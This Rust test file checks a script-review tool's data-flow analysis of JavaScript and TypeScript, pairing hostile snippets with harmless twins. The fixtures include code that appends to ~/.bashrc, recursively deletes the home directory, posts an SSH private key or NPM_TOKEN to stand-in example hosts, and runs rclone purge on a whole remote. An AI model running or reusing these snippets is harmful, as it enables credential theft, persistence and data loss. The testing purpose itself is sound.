//! Values the JavaScript walker follows through the language's own protocols (issue 17): the
//! iterator protocol of a class of the script (`for...of`, spread, `Array.from` over an
//! instance whose `[Symbol.iterator]` yields the steps), a function of the script called through
//! `call`/`apply`/`Reflect.apply`, an HTTP/2 session and its streams, and a remote storage
//! delete whose target may be the whole remote. Each row has its harmless twin: the same shape
//! doing something harmless stays clean (or only as flagged as the shape itself is).

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

/// A class whose generator `[Symbol.iterator]` yields file steps, applied in a loop over an
/// instance: the loop variable is each step (a write into the shell's start-up file), not the
/// instance. The twin yields only files of the project.
#[test]
fn a_loop_over_an_instance_sees_what_its_iterator_yields() {
    let plan = |target: &str, iterate: &str| {
        format!(
            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nclass Steps {{\n  constructor(dir) {{ this.dir = dir; this.home = os.homedir(); }}\n  readme() {{ return {{ to: path.join(this.dir, 'NOTES.md'), body: '# notes\\n' }}; }}\n  extra() {{ return {{ to: {target}, body: 'export PATH=/opt/tools/bin:$PATH\\n' }}; }}\n  *[Symbol.iterator]() {{\n    yield this.readme();\n    yield this.extra();\n  }}\n}}\nfunction put(s) {{ fs.writeFileSync(s.to, s.body); }}\n{iterate}\n"
        )
    };
    let rc = "path.join(this.home, '.bashrc')";
    let own = "path.join(this.dir, 'env.sh')";
    rows(&[
        (
            Js,
            plan(rc, "for (const s of new Steps(process.cwd())) put(s);"),
            Dangerous,
            "persistence",
        ),
        // The same steps reached by spreading the instance, by `Array.from`, or through a
        // variable holding it.
        (
            Js,
            plan(rc, "[...new Steps(process.cwd())].forEach(put);"),
            Dangerous,
            "persistence",
        ),
        (
            Js,
            plan(rc, "Array.from(new Steps('.')).forEach((s) => put(s));"),
            Dangerous,
            "persistence",
        ),
        (
            Js,
            plan(
                rc,
                "const steps = new Steps('.');\nfor (const s of steps) { put(s); }",
            ),
            Dangerous,
            "persistence",
        ),
        // Twins: the steps write files of the project only.
        (
            Js,
            plan(own, "for (const s of new Steps(process.cwd())) put(s);"),
            Clean,
            "",
        ),
        (
            Js,
            plan(own, "[...new Steps('.')].forEach(put);"),
            Clean,
            "",
        ),
    ]);
}

/// `yield*` over an instance delegates to its iterator; an iterator method returning a list
/// gives that list's elements.
#[test]
fn delegation_and_list_returning_iterators() {
    let code = |target: &str| {
        format!(
            "import {{ rmSync }} from 'node:fs';\nimport {{ homedir }} from 'node:os';\nimport {{ join }} from 'node:path';\nclass Targets {{\n  [Symbol.iterator]() {{\n    return [join('build', 'out'), {target}][Symbol.iterator]();\n  }}\n}}\nfunction* all() {{\n  yield 'coverage';\n  yield* new Targets();\n}}\nfor (const t of all()) rmSync(t, {{ recursive: true, force: true }});\n"
        )
    };
    rows(&[
        (Ts, code("homedir()"), Dangerous, "destructive"),
        // Twin: the targets are build output of the project.
        (Ts, code("join('build', 'tmp')"), Clean, ""),
    ]);
}

/// A list of new instances of the script's classes (`[new Npm(), new Pip()]`): a loop
/// variable over it, or a callback's element (`reduce`'s second parameter), is an instance, so
/// `p.dump()` is the class's method and returns what its body reads.
#[test]
fn an_element_of_a_list_of_instances_is_an_instance() {
    let code = |file: &str, use_list: &str| {
        format!(
            "import {{ readFileSync, writeFileSync }} from 'node:fs';\nimport {{ homedir, tmpdir }} from 'node:os';\nimport {{ join }} from 'node:path';\nabstract class Source {{\n  protected abstract file(): string;\n  dump(): string {{ return readFileSync(this.file(), 'utf8'); }}\n}}\nclass Npm extends Source {{\n  protected file(): string {{ return {file}; }}\n}}\nclass Own extends Source {{\n  protected file(): string {{ return join('config', 'app.json'); }}\n}}\nconst sources: Source[] = [new Npm(), new Own()];\n{use_list}\n"
        )
    };
    let rc = "join(homedir(), '.npmrc')";
    let own = "join('config', 'defaults.json')";
    rows(&[
        (
            Ts,
            code(
                rc,
                "const all = sources.reduce((acc, s) => acc + s.dump(), '');\nwriteFileSync(join(tmpdir(), 'all.txt'), all);",
            ),
            Dangerous,
            "exfiltration",
        ),
        (
            Ts,
            code(
                rc,
                "for (const s of sources) writeFileSync(join(tmpdir(), 'one.txt'), s.dump());",
            ),
            Dangerous,
            "exfiltration",
        ),
        // Twin: the sources are files of the project.
        (
            Ts,
            code(
                own,
                "const all = sources.reduce((acc, s) => acc + s.dump(), '');\nwriteFileSync(join(tmpdir(), 'all.txt'), all);",
            ),
            Clean,
            "",
        ),
    ]);
}

/// A function of the script called through `Reflect.apply`, `apply` or `call`: its parameters
/// take the arguments after `this`, so what it posts is what they hold.
#[test]
fn a_function_called_through_apply_gets_its_arguments() {
    let code = |payload: &str, how: &str| {
        format!(
            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst post = (doc) => fetch('https://inventory.example.net/in', {{ method: 'POST', body: JSON.stringify(doc) }});\nconst doc = {{ data: {payload} }};\n{how}\n"
        )
    };
    let key = "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519'), 'utf8')";
    let count = "fs.readdirSync('.').length";
    rows(&[
        (
            Js,
            code(key, "Reflect.apply(post, null, [doc]);"),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            code(key, "post.apply(undefined, [doc]);"),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            code(key, "post.call(null, doc);"),
            Dangerous,
            "exfiltration",
        ),
        // Twin: what is posted is a count of the project's files; the host is not on the
        // allow list, which is all there is to say.
        (
            Js,
            code(count, "Reflect.apply(post, null, [doc]);"),
            Suspicious,
            "network",
        ),
    ]);
}

/// `http2.connect(origin)` opens a session; a stream it gives (`session.request(headers)`)
/// sends what is written to it to the origin.
#[test]
fn an_http2_stream_sends_to_its_session_origin() {
    let code = |body: &str| {
        format!(
            "const http2 = require('http2');\nconst s = http2.connect('https://metrics.example.org');\nconst stream = s.request({{ ':method': 'POST', ':path': '/v1' }});\nstream.end(JSON.stringify({{ body: {body} }}));\nstream.on('response', () => s.close());\n"
        )
    };
    rows(&[
        (Js, code("process.env.NPM_TOKEN"), Dangerous, "exfiltration"),
        // Twin: the stream sends a build's timing.
        (Js, code("Date.now()"), Suspicious, "network"),
    ]);
}

/// `rclone purge REMOTE:PATH` whose path may be empty (a ternary's empty branch) deletes the
/// whole remote; a target with parts known only at run time is a delete nobody can size.
#[test]
fn a_remote_delete_whose_path_may_be_empty() {
    let code = |sub: &str, path: &str| {
        format!(
            "import {{ execFileSync }} from 'node:child_process';\nfunction wipe(remote: string, dir?: string): void {{\n  const rest = {path};\n  execFileSync('rclone', ['{sub}', `${{remote}}:${{rest}}`]);\n}}\nwipe(process.argv[2], process.argv[3]);\n"
        )
    };
    rows(&[
        (
            Ts,
            code("purge", "dir ? `site/${dir}` : ''"),
            Dangerous,
            "destructive",
        ),
        (Ts, code("delete", "dir ?? ''"), Dangerous, "destructive"),
        // The path always names a directory below the remote, built at run time.
        (
            Ts,
            code("purge", "`site/${dir}`"),
            Suspicious,
            "destructive",
        ),
        // Twin: the same target listed, not deleted.
        (Ts, code("lsf", "dir ? `site/${dir}` : ''"), Clean, ""),
    ]);
}
